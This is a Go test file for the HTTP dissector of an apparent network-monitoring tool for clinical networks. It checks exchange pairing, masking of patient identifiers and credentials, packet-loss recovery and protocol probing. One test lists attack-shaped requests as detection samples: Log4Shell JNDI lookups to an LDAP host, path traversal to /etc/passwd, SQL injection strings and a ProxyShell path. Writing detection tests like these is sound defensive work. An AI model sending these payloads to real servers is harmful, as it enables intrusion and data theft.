package http

import (
	"fmt"
	"strings"
	"testing"

	"wardtrace/dissect"
	"wardtrace/dissect/dissecttest"
	"wardtrace/dissect/event"
)

var samples = []string{"../../samples/http-pipelined", "../../samples/http-basic-auth", "../../samples/http-scanner"}

func overTCP(c *dissect.Conn) bool { return c.Transport == dissect.TCP }

func TestGolden(t *testing.T) {
	for _, s := range samples {
		dissecttest.Golden(t, s, HTTP2, Protocol)
	}
}

func TestSuite(t *testing.T) {
	for _, s := range samples {
		dissecttest.Suite(t, Protocol, dissecttest.Load(t, overTCP, s+"/capture.pcap"))
	}
}

func FuzzHTTP(f *testing.F) {
	var convs []dissecttest.Conversation
	for _, s := range samples {
		convs = append(convs, dissecttest.Load(f, overTCP, s+"/capture.pcap")...)
	}
	dissecttest.Fuzz(f, Protocol, convs)
}

// run feeds a hand-made conversation, messages alternating from the client, and gives its rows.
func run(t *testing.T, messages ...string) ([]event.Row[Exchange], *event.Batch) {
	t.Helper()
	raw := make([][]byte, len(messages))
	for i, m := range messages {
		raw[i] = []byte(m)
	}
	c := dissecttest.Bytes(dissect.TCP, "10.20.0.66:50000", "10.20.0.10:80", raw...)
	b := dissecttest.Run(Protocol, &c)
	return exchanges.Get(b), b
}

func one(t *testing.T, messages ...string) Exchange {
	t.Helper()
	rows, b := run(t, messages...)
	if len(rows) != 1 {
		t.Fatalf("%d rows, want 1\n%s", len(rows), dissecttest.Dump(b))
	}
	return rows[0].V
}

func anomalies(b *event.Batch) string {
	var kinds []string
	for _, a := range event.Anomalies.Get(b) {
		kinds = append(kinds, a.V.Kind)
	}
	return strings.Join(kinds, " ")
}

const get = "GET / HTTP/1.1\r\nHost: a\r\n\r\n"

func TestQueryIsMasked(t *testing.T) {
	r := one(t, "GET /wado?patientId=LABPATIENT-1&x;LABPATIENT&=y HTTP/1.1\r\nHost: a\r\n"+
		"Referer: http://u:p@b/c?name=LABPATIENT\r\n\r\n")
	if r.URI != "/wado?patientId=*&*&*&*" || fmt.Sprint(r.URIKeys) != "[patientId]" || r.Referrer != "http://b/c?name=*" {
		t.Fatalf("%+v", r)
	}
	if r.Query != "patientId=LABPATIENT-1&x;LABPATIENT&=y" || r.RequestSeen != true || r.ResponseSeen {
		t.Fatalf("%+v", r)
	}
}

func TestPathIsMasked(t *testing.T) {
	for path, want := range map[string]string{
		"/fhir/Patient/4711": "/fhir/Patient/*", "/fhir/Patient/4711/_history/2": "/fhir/Patient/*/_history/2", "/Patient/$export": "/Patient/$export",
		"/Patient/_search": "/Patient/_search", "/patients": "/patients", "/patients/": "/patients/", "/patients/search": "/patients/search",
		"/patient/view.php": "/patient/view.php", "/patient/LABPATIENT": "/patient/*", "/api/mrn/1/x": "/api/mrn/*/x", "/Observation/12": "/Observation/12",
	} {
		if r := one(t, "GET "+path+" HTTP/1.1\r\nHost: a\r\n\r\n"); r.URI != want {
			t.Errorf("%s: %s, want %s", path, r.URI, want)
		}
	}
}

// A server that answers in HTTP speaks it, however odd what it was asked is.
func TestOddFirstLine(t *testing.T) {
	for _, first := range []string{"xyz\r\n\r\n", "get / http/1.1\r\n\r\n", "\x00\x01\x02\r\nabc", "QUIT"} {
		rows, b := run(t, first, "HTTP/1.1 400 Bad Request\r\nServer: x\r\nContent-Length: 2\r\n\r\nno")
		if len(rows) != 1 || rows[0].V.StatusCode.V != 400 || rows[0].V.ResponseBodyLen != 2 {
			t.Errorf("%q: %s", first, dissecttest.Dump(b))
		}
	}
}

// What the probe believed in after a loss, before the line was whole, is looked at again as what begins a connection is.
func TestBelievedAfterLoss(t *testing.T) {
	c := dissecttest.Bytes(dissect.TCP, "10.20.0.66:50000", "10.20.0.10:80", []byte("A /"+strings.Repeat("0", enough)), nil, []byte("\nHTTP/1.0 000\n"))
	c.Segments[0].Gap = 100
	if rows := exchanges.Get(dissecttest.Run(Protocol, &c)); len(rows) != 0 {
		t.Fatalf("%+v", rows)
	}
}

func TestPairing(t *testing.T) {
	rows, _ := run(t, "HEAD /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nHTTP/1.1 103 Early Hints\r\n\r\nHTTP/1.1 304 Not Modified\r\nContent-Length: 9\r\n\r\nHTTP/1.1 404 No\r\n\r\nrest")
	var got []string
	for _, r := range rows {
		got = append(got, fmt.Sprintf("%d %s %d %d %d", r.V.TransDepth, r.V.URI, r.V.StatusCode.V, r.V.InfoCode.V, r.V.ResponseBodyLen))
	}
	if s := strings.Join(got, ", "); s != "1 /1 200 0 0, 2 /2 304 103 0, 3 /3 404 0 4" {
		t.Fatal(s)
	}
	if !rows[2].V.ResponseComplete {
		t.Error("a body that ends with the connection is complete")
	}
}

func TestResponseFirst(t *testing.T) {
	rows, b := run(t, "", "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi", get, "HTTP/1.1 500 No\r\nContent-Length: 0\r\n\r\n")
	if len(rows) != 2 || rows[0].V.RequestSeen || rows[0].V.StatusCode.V != 200 || rows[1].V.StatusCode.V != 500 || anomalies(b) != "" {
		t.Fatal(dissecttest.Dump(b))
	}
}

func TestPendingLimit(t *testing.T) {
	rows, b := run(t, strings.Repeat(get, maxPending+2), strings.Repeat("HTTP/1.1 204 A\r\n\r\n", 2)+"HTTP/1.1 404 B\r\n\r\n")
	if !strings.HasPrefix(anomalies(b), "http_pending_limit") {
		t.Fatal(anomalies(b))
	}
	for _, r := range rows { // the first two responses belong to the requests that were given up
		if r.V.RequestSeen && r.V.ResponseSeen && (r.V.StatusCode.V != 404 || r.V.TransDepth != 3) {
			t.Fatalf("%+v", r.V)
		}
	}
}

func TestLongLineIsCut(t *testing.T) {
	r := one(t, "GET / HTTP/1.1\r\nX: "+strings.Repeat("a", 3*maxLine)+"\r\nHost: ward\r\n\r\n", "HTTP/1.1 204 A\r\n\r\n")
	if r.Host != "ward" || r.StatusCode.V != 204 {
		t.Fatalf("%+v", r)
	}
}

func TestLossInBody(t *testing.T) {
	c := dissecttest.Bytes(dissect.TCP, "10.20.0.66:50000", "10.20.0.10:80", []byte(get),
		[]byte("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n123"), nil, []byte("45HTTP/1.1 204 A\r\n\r\n"))
	c.Segments[3].Gap = 995
	rows := exchanges.Get(dissecttest.Run(Protocol, &c))
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	r := rows[0].V
	if r.ResponseBodyLen != 1000 || r.MissingBytes != 995 || r.ResponseComplete || r.ResponseDigest != "" || rows[1].V.StatusCode.V != 204 {
		t.Fatalf("%+v", r)
	}
}

func TestResyncAfterLoss(t *testing.T) {
	c := dissecttest.Bytes(dissect.TCP, "10.20.0.66:50000", "10.20.0.10:80", []byte("GET /1 HTTP/1.1\r\nHo"),
		nil, []byte("ost\r\nb\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"))
	c.Segments[2].Gap = 10
	rows := exchanges.Get(dissecttest.Run(Protocol, &c))
	if len(rows) != 2 || rows[0].V.RequestComplete || rows[1].V.URI != "/2" || !rows[1].V.RequestComplete {
		t.Fatalf("%+v", rows)
	}
}

func TestChunkWithoutSize(t *testing.T) {
	rows, b := run(t, get+get, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nzz\r\nHTTP/1.1 204 A\r\n\r\n")
	if len(rows) != 2 || rows[0].V.ResponseComplete || rows[1].V.StatusCode.V != 204 || anomalies(b) != "http_bad_chunk" {
		t.Fatal(dissecttest.Dump(b))
	}
}

func TestAmbiguousLength(t *testing.T) {
	if r := one(t, "POST / HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"); !r.Ambiguous || !r.RequestComplete {
		t.Fatalf("%+v", r)
	}
	if r := one(t, "POST / HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde"); !r.Ambiguous {
		t.Fatalf("%+v", r)
	}
}

func TestShapesOfAttacks(t *testing.T) {
	for _, x := range []struct {
		head                         string
		jndi, traversal, sqli, shell bool
	}{
		{head: "GET /a?b=c%20d HTTP/1.1\r\nUser-Agent: x"},
		{head: "GET /a..b/c?union=select HTTP/1.1\r\nCookie: price=$5"},
		{head: "GET / HTTP/1.1\r\nX: ${jndi:ldap://203.0.113.9/a}", jndi: true},
		{head: "GET /?x=%24%7Bjndi%3Aldap%3A HTTP/1.1", jndi: true},
		{head: "GET / HTTP/1.1\r\nX: ${${lower:j}ndi:ldap://203.0.113.9/a}", jndi: true},
		{head: "GET /a/..%2f..%2fetc/passwd HTTP/1.1", traversal: true},
		{head: "GET /a/%252e%252e%252fetc HTTP/1.1", traversal: true},
		{head: "GET /i?id=1'/**/UNION/**/SELECT+1 HTTP/1.1", sqli: true},
		{head: "GET /i?id=1%27%20or%20%271 HTTP/1.1", sqli: true},
		{head: "GET /autodiscover/autodiscover.json?@a.b/owa HTTP/1.1", shell: true},
	} {
		r := one(t, x.head+"\r\n\r\n")
		if r.JNDI != x.jndi || r.Traversal != x.traversal || r.SQLi != x.sqli || r.ProxyShell != x.shell {
			t.Errorf("%s: %v %v %v %v", x.head, r.JNDI, r.Traversal, r.SQLi, r.ProxyShell)
		}
	}
}

// No secret may reach a row.
func TestSecretsAreNotKept(t *testing.T) {
	const secret = "Invented-4711"
	rows, b := run(t, "POST /login HTTP/1.1\r\nAuthorization: Basic bnVyc2U6SW52ZW50ZWQtNDcxMQ==\r\nCookie: sid="+secret+"\r\n"+
		"Content-Type: application/json\r\nContent-Length: 46\r\n\r\n{\"username\":\"nurse\",\"password\":\""+secret+"\"}",
		"HTTP/1.1 302 Found\r\nSet-Cookie: sid="+secret+"\r\nLocation: /?token="+secret+"\r\nContent-Length: 0\r\n\r\n")
	r := rows[0].V
	if strings.Contains(dissecttest.Dump(b), secret) || strings.Contains(dissecttest.Dump(b), "SW52ZW50") {
		t.Fatal(dissecttest.Dump(b))
	}
	if r.Username != "nurse" || !r.HasPassword || r.CredentialLen.V != int64(len(secret)) || !r.FormLogin || !r.SetsCookie ||
		r.Location != "/?token=*" || fmt.Sprint(r.CookieKeys) != "[sid]" {
		t.Fatalf("%+v", r)
	}
}

func TestCompressionBombIsBounded(t *testing.T) {
	m := message{encoding: "gzip", kept: bomb(t), ex: &exchange{}}
	content, ok := m.decode(&unpacker{})
	if ok || len(content) != maxDecoded {
		t.Fatalf("%d bytes, whole: %v", len(content), ok)
	}
}

func TestConnectHandsOver(t *testing.T) {
	set := dissect.NewSet([]*dissect.Protocol{HTTP2, Protocol})
	c := dissecttest.Bytes(dissect.TCP, "10.20.0.66:50000", "10.20.0.10:3128",
		[]byte("CONNECT pacs:80 HTTP/1.1\r\n\r\n"), []byte("HTTP/1.1 200 OK\r\n\r\n"), []byte(get), []byte("HTTP/1.1 204 A\r\n\r\n"))
	rows := exchanges.Get(dissecttest.RunSet(set, &c))
	if len(rows) != 2 || rows[0].V.Host != "pacs:80" || rows[1].V.TransDepth != 1 || rows[1].V.StatusCode.V != 204 {
		t.Fatalf("%+v", rows)
	}
	c = dissecttest.Bytes(dissect.TCP, "10.20.0.66:50000", "10.20.0.10:3128",
		[]byte("CONNECT pacs:80 HTTP/1.1\r\n\r\n"), []byte("HTTP/1.1 407 No\r\nContent-Length: 0\r\n\r\n"), []byte(get), []byte("HTTP/1.1 204 A\r\n\r\n"))
	if rows = exchanges.Get(dissecttest.RunSet(set, &c)); len(rows) != 2 || rows[1].V.TransDepth != 2 {
		t.Fatalf("%+v", rows)
	}
}

func TestProbe(t *testing.T) {
	for _, x := range []struct {
		first string
		want  dissect.Match
	}{
		{"GET / HTTP/1.1\r\n", dissect.Yes}, {"FROB / HTTP/1.0\n", dissect.Yes}, {"\r\nGET / HTTP/1.1\r\n", dissect.Yes},
		{"HTTP/1.1 200\r\n", dissect.Yes}, {"GE", dissect.Maybe}, {"GET /aaaa", dissect.Maybe}, {"HTTP", dissect.Maybe},
		{"GET /" + strings.Repeat("a", 3000), dissect.Yes}, {"OPTIONS sip:a SIP/2.0\r\n", dissect.No}, {"USER nurse\r\n", dissect.No},
		{preface, dissect.No}, {"\x16\x03\x01", dissect.No}, {"MSH|^~\\&|", dissect.No}, {"OPTIONS * HTTP/1.1\r\n", dissect.Yes}, {"CONNECT a:443 HTTP/1.1\r\n", dissect.Yes},
		{"GET relative HTTP/1.1\r\n", dissect.No}, {"HTTP/1.1 2x0 OK\r\n", dissect.No},
	} {
		if got := probe(&dissect.Conn{}, dissect.FromClient, []byte(x.first)); got != x.want {
			t.Errorf("%.20q: %d, want %d", x.first, got, x.want)
		}
	}
	if got := probe(&dissect.Conn{Guessed: true}, dissect.FromClient, []byte("HTTP/1.1 200 OK\r\n")); got != dissect.Swapped {
		t.Error("a status line from the guessed client", got)
	}
}

func TestOddRequestLine(t *testing.T) {
	for _, line := range []string{"GET / HTTP/1.", "CCM_POST /HTTP/1.1", "PUT /", "HEAD http://a"} {
		rows, b := run(t, line+"\r\n\r\n", "HTTP/1.0 400 No\r\nContent-Length: 0\r\n\r\n")
		if len(rows) != 1 || rows[0].V.StatusCode.V != 400 || !rows[0].V.RequestSeen || anomalies(b) != "http_odd_request_line" {
			t.Errorf("%q: %s", line, dissecttest.Dump(b))
		}
	}
}

func TestOddStatusLine(t *testing.T) {
	for _, line := range []string{"http/1.1 200 ok", "HTTP/1.10 200 ok", " HTTP/2.0 200 ok", "\x00HTTP/1.1 200 ok"} {
		rows, b := run(t, get, line+"\r\nContent-Length: 2\r\n\r\nhi")
		if len(rows) != 1 || rows[0].V.StatusCode.V != 200 || rows[0].V.ResponseBodyLen != 2 || anomalies(b) != "http_odd_status_line" {
			t.Errorf("%q: %s", line, dissecttest.Dump(b))
		}
	}
}
